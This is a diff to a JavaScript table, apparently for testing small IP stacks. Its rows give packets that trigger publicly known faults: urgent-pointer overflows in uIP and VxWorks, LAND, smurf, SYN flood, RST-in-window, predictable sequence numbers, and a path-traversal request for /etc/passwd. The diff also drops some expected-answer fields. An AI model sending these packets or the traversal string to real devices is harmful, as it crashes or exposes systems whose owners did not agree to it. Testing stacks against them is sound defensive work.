@@ -1,5 +1,5 @@
 // Packets that trigger publicly known faults of small IP stacks. Each row: the number of the fault, the products that had it, what is
-// sent, the packets for an open connection `c`, and what the device answers; with a guard, if that differs. Those numbers that the
+// sent, the packets for an open connection `c`, and what the device answers; with a secret, if that differs. Those numbers that the
 // author was not sure of are left out (`-`).
 import { ACK, FIN, NODE, PEER, PSH, RST, SYN, URG, add32, icmp, ip, onesSum, tcp, u16, udp } from "./packets.mjs";
 
@@ -79,7 +79,7 @@ export const ROWS = [
     () => [ip(icmp({}).subarray(20), { proto: 1, version: 0x46, options: [131, 7, 4, 9] })], "-"],
   // Urgent data
   ["CVE-2020-17437", "uIP, Contiki (AMNESIA:33)", "urgent pointer beyond the segment: memory beyond is overwritten",
-    c => [seg(c, { flags: ACK | URG, urgent: 65535, text: "GET" }), seg(c, { flags: ACK | URG, urgent: 1460, text: "" })], "ACK", "ACK"],
+    c => [seg(c, { flags: ACK | URG, urgent: 65535, text: "GET" }), seg(c, { flags: ACK | URG, urgent: 1460, text: "" })], "ACK"],
   ["CVE-2019-12255", "VxWorks IPnet (URGENT/11)", "urgent pointer 0: length underflows",
     c => [seg(c, { flags: ACK | URG | PSH, urgent: 0, text: GET })], "text"],
   ["CVE-2019-12261", "VxWorks IPnet (URGENT/11)", "SYN with URG and FIN: state confusion",
@@ -104,7 +104,7 @@ export const ROWS = [
   ["CVE-1999-0265", "many", "ICMP redirect",
     () => [icmp({ type: 5, code: 1, body: [10, 0, 0, 66, ...tcp({}).subarray(0, 28)] })], "-"],
   ["CVE-1999-0513", "many (smurf)", "echo request to and from a broadcast address",
-    () => [icmp({ to: [10, 0, 0, 255] }), icmp({ to: [255, 255, 255, 255] }), icmp({ from: [255, 255, 255, 255] })], "echo", "-"],
+    () => [icmp({ to: [10, 0, 0, 255] }), icmp({ to: [255, 255, 255, 255] }), icmp({ from: [255, 255, 255, 255] })], "-"],
   ["CVE-1999-0523", "many", "ICMP timestamp, mask and information requests",
     () => [13, 15, 17].map(type => icmp({ type, body: a(16, 0) })), "-"],
   // Tunnels, other protocols
@@ -138,13 +138,13 @@ export const ROWS = [
     c => [seg(c, { text: "GET /../../etc/passwd%00\u0000\u00ff HTTP/1.0\r\n\r\n" })], "text"],
   // Numbers and states
   ["CVE-2004-0230", "many (slipping in the window)", "RST within the window, not at RCV.NXT",
-    c => [tcp({ port: c.port, flags: RST, seq: add32(c.snd, 100) })], "ends", "lives"],
+    c => [tcp({ port: c.port, flags: RST, seq: add32(c.snd, 100) })], "lives"],
   ["CVE-2020-27634", "uIP, Contiki, Contiki-NG (NUMBER:JACK)", "predictable ISN: two connections at one moment",
     () => [5000, 5001].map(port => tcp({ port, flags: SYN })), "SYN+ACK x2 near", "SYN+ACK x2 far"],
   ["CVE-1999-0016", "many (LAND)", "SYN from the node's own address and port",
-    () => [tcp({ from: NODE, port: 80, flags: SYN })], "SYN+ACK", "-"],
+    () => [tcp({ from: NODE, port: 80, flags: SYN })], "-"],
   ["CVE-1999-0116", "many (SYN flood)", "twelve SYNs",
-    () => Array.from({ length: 12 }, (_, i) => tcp({ from: [10, 9, 9, i], port: 5000, flags: SYN })), "SYN+ACK x9 locked", "SYN+ACK x12"],
+    () => Array.from({ length: 12 }, (_, i) => tcp({ from: [10, 9, 9, i], port: 5000, flags: SYN })), "SYN+ACK x12"],
   ["-", "many", "all 64 sets of flags, to a port that is not served",
     () => Array.from({ length: 64 }, (_, flags) => tcp({ dport: 81, flags })), "RST x32"],
   ["-", "many", "Christmas tree and null scan to the open port",
